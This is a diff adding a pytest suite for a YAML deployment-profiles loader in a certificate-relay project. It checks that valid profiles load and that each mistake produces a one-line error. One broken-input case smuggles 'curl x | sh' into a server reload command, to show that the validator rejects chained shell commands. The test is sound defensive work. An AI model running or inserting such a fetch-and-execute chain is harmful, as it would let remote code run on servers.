@@ -1,0 +1,226 @@
+"""Profiles YAML: valid files load, every mistake is one line naming file, profile and field."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from certrelay.errors import ProfileError
+from certrelay.profiles import S3Target, ServerTarget, load_profiles, load_profiles_file
+
+ROOT = Path(__file__).resolve().parents[2]
+
+VALID = """
+profiles:
+  web:
+    owners: [web-team@example.com]
+    approvers: [web-lead@example.com]
+    approval: required
+    approval_timeout_hours: 24
+    escalation: [ops@example.com]
+    window: {days: [sat, sun], start: "02:00", end: "05:00", timezone: UTC}
+    max_concurrency: 10
+    targets:
+      - {kind: s3, bucket: partner-mtls-bundles, prefix: web/, kms_key: "alias/partner"}
+      - kind: server
+        instances: [i-0a1b2c3d4e5f60001]
+        cert_path: /etc/ssl/web/cert.pem
+        key_path: /etc/ssl/web/key.pem
+        chain_path: /etc/ssl/web/chain.pem
+        reload: systemctl reload nginx
+        verify_port: 443
+"""
+
+
+def test_a_complete_profile_loads_with_typed_targets() -> None:
+    profiles = load_profiles(VALID)
+    web = profiles["web"]
+    assert web.owners == ["web-team@example.com"]
+    assert web.approval == "required"
+    assert web.window is not None
+    assert web.window.days == ["sat", "sun"]
+    s3, server = web.targets
+    assert isinstance(s3, S3Target)
+    assert s3.kms_key == "alias/partner"
+    assert isinstance(server, ServerTarget)
+    assert server.instances == ["i-0a1b2c3d4e5f60001"]
+
+
+def test_defaults_make_a_minimal_profile_an_owner_list() -> None:
+    web = load_profiles("profiles:\n  web:\n    owners: [a@example.com]\n")["web"]
+    assert web.approval == "required"
+    assert web.targets == []
+    assert web.window is None
+
+
+def test_a_server_target_may_select_hosts_by_tags() -> None:
+    text = VALID.replace("instances: [i-0a1b2c3d4e5f60001]", "tags: {Role: web}")
+    server = load_profiles(text)["web"].targets[1]
+    assert isinstance(server, ServerTarget)
+    assert server.tags == {"Role": "web"}
+
+
+def test_the_deployed_profiles_file_is_valid_and_describes_the_web_fleet() -> None:
+    profiles = load_profiles_file(ROOT / "config" / "profiles.yaml")
+    web = profiles["web"]
+    assert web.approval == "required"
+    kinds = [target.kind for target in web.targets]
+    assert kinds == ["s3", "server", "server"]
+    instances = [t.instances for t in web.targets if isinstance(t, ServerTarget)]
+    assert instances == [["i-0a1b2c3d4e5f60001"], ["i-0a1b2c3d4e5f60002"]]
+
+
+@pytest.mark.parametrize("text", ["", "   \n", "# only a comment\n", "profiles:\n"])
+def test_empty_content_means_no_profiles(text: str) -> None:
+    assert load_profiles(text) == {}
+
+
+def test_a_missing_file_means_no_profiles(tmp_path: Path) -> None:
+    assert load_profiles_file(tmp_path / "absent.yaml") == {}
+
+
+def test_no_configured_file_means_no_profiles() -> None:
+    # GIVEN Settings.profiles_file is None (PROFILES_FILE unset)
+    assert load_profiles_file(None) == {}
+
+
+def test_errors_from_a_file_name_that_file(tmp_path: Path) -> None:
+    path = tmp_path / "profiles.yaml"
+    path.write_text(VALID.replace("/etc/ssl/web/cert.pem", "cert.pem"))
+    with pytest.raises(ProfileError) as caught:
+        load_profiles_file(path)
+    assert str(caught.value) == (
+        f"{path}: profile 'web', targets[1].cert_path: must be an absolute path"
+    )
+
+
+BROKEN = [
+    (
+        "relative path",
+        ("/etc/ssl/web/cert.pem", "etc/ssl/cert.pem"),
+        "profile 'web', targets[1].cert_path: must be an absolute path",
+    ),
+    (
+        "dot-dot path",
+        ("/etc/ssl/web/key.pem", "/etc/ssl/../key.pem"),
+        "profile 'web', targets[1].key_path: must not contain '..'",
+    ),
+    (
+        "bad email",
+        ("web-lead@example.com", "web-lead@"),
+        "profile 'web', approvers[0]: 'web-lead@' is not a valid email address",
+    ),
+    (
+        "bad instance",
+        ("i-0a1b2c3d4e5f60001", "i-nothex"),
+        "profile 'web', targets[1].instances[0]: 'i-nothex' is not an EC2 instance id",
+    ),
+    (
+        "shell in reload",
+        ("systemctl reload nginx", "systemctl reload nginx && curl x | sh"),
+        "profile 'web', targets[1].reload: must be one command line",
+    ),
+    ("bad time", ('"02:00"', '"2am"'), "profile 'web', window.start: must be a time HH:MM"),
+    (
+        "bad weekday",
+        ("[sat, sun]", "[sat, sunday]"),
+        "profile 'web', window.days[1]: must be one of 'mon'",
+    ),
+    (
+        "bad timezone",
+        ("timezone: UTC", "timezone: Mars/Olympus"),
+        "profile 'web', window.timezone: must be an IANA time zone",
+    ),
+    (
+        "unknown kind",
+        ("kind: s3,", "kind: ftp,"),
+        "profile 'web', targets[0]: kind must be 's3' or 'server'",
+    ),
+    (
+        "typo in field",
+        ("bucket: partner", "bukket: partner"),
+        "profile 'web', targets[0].bucket: is required",
+    ),
+    (
+        "bad bucket",
+        ("partner-mtls-bundles", "Partner_Bundles"),
+        "profile 'web', targets[0].bucket: must be an S3 bucket name",
+    ),
+    (
+        "bad kms key",
+        ('"alias/partner"', '"my-key"'),
+        "profile 'web', targets[0].kms_key: must be a KMS key id",
+    ),
+    (
+        "concurrency too high",
+        ("max_concurrency: 10", "max_concurrency: 41"),
+        "profile 'web', max_concurrency: must be less than or equal to 40",
+    ),
+    (
+        "timeout too long",
+        ("approval_timeout_hours: 24", "approval_timeout_hours: 169"),
+        "profile 'web', approval_timeout_hours: must be less than or equal to 168",
+    ),
+    (
+        "bad approval",
+        ("approval: required", "approval: sometimes"),
+        "profile 'web', approval: must be one of 'required' or 'auto'",
+    ),
+    (
+        "two selectors",
+        (
+            "instances: [i-0a1b2c3d4e5f60001]",
+            "instances: [i-0a1b2c3d4e5f60001]\n        tags: {Role: web}",
+        ),
+        "profile 'web', targets[1]: give either instances (EC2 ids) or tags",
+    ),
+    (
+        "no approvers",
+        ("    approvers: [web-lead@example.com]\n", ""),
+        "profile 'web': approval is 'required' but no approvers are listed",
+    ),
+    (
+        "unknown field",
+        ("max_concurrency: 10", "max_concurency: 10"),
+        "profile 'web', max_concurency: is not a known field",
+    ),
+    (
+        "bad port",
+        ("verify_port: 443", "verify_port: 70000"),
+        "profile 'web', targets[1].verify_port: must be less than or equal to 65535",
+    ),
+]
+
+
+@pytest.mark.parametrize(("case", "edit", "message"), BROKEN, ids=[b[0] for b in BROKEN])
+def test_each_mistake_is_reported_in_one_line(
+    case: str, edit: tuple[str, str], message: str
+) -> None:
+    # GIVEN the valid file with one mistake
+    assert edit[0] in VALID, case
+    text = VALID.replace(*edit)
+    # WHEN it is loaded THEN one line names the file, the profile and the field
+    with pytest.raises(ProfileError) as caught:
+        load_profiles(text, source="config/profiles.yaml")
+    line = str(caught.value)
+    assert line.startswith(f"config/profiles.yaml: {message}"), line
+    assert "\n" not in line
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("- just\n- a list\n", "profiles.yaml: must be a mapping with a top-level 'profiles' key"),
+        ("profiles: [web]\n", "profiles.yaml: profiles: must be a mapping"),
+        ("profile:\n  web: {}\n", "profiles.yaml: profile: is not a known field"),
+        ("profiles:\n  web: {}\n  web: {}\n", "profiles.yaml: not valid YAML (line 3, column 3)"),
+        ("profiles: {web: [}\n", "profiles.yaml: not valid YAML (line 1"),
+        ("profiles:\n  'web team': {}\n", "profiles.yaml: profile 'web team': 'web team' is not a"),
+    ],
+)
+def test_structural_mistakes_are_reported_in_one_line(text: str, message: str) -> None:
+    with pytest.raises(ProfileError) as caught:
+        load_profiles(text)
+    assert str(caught.value).startswith(message), str(caught.value)
+    assert "\n" not in str(caught.value)
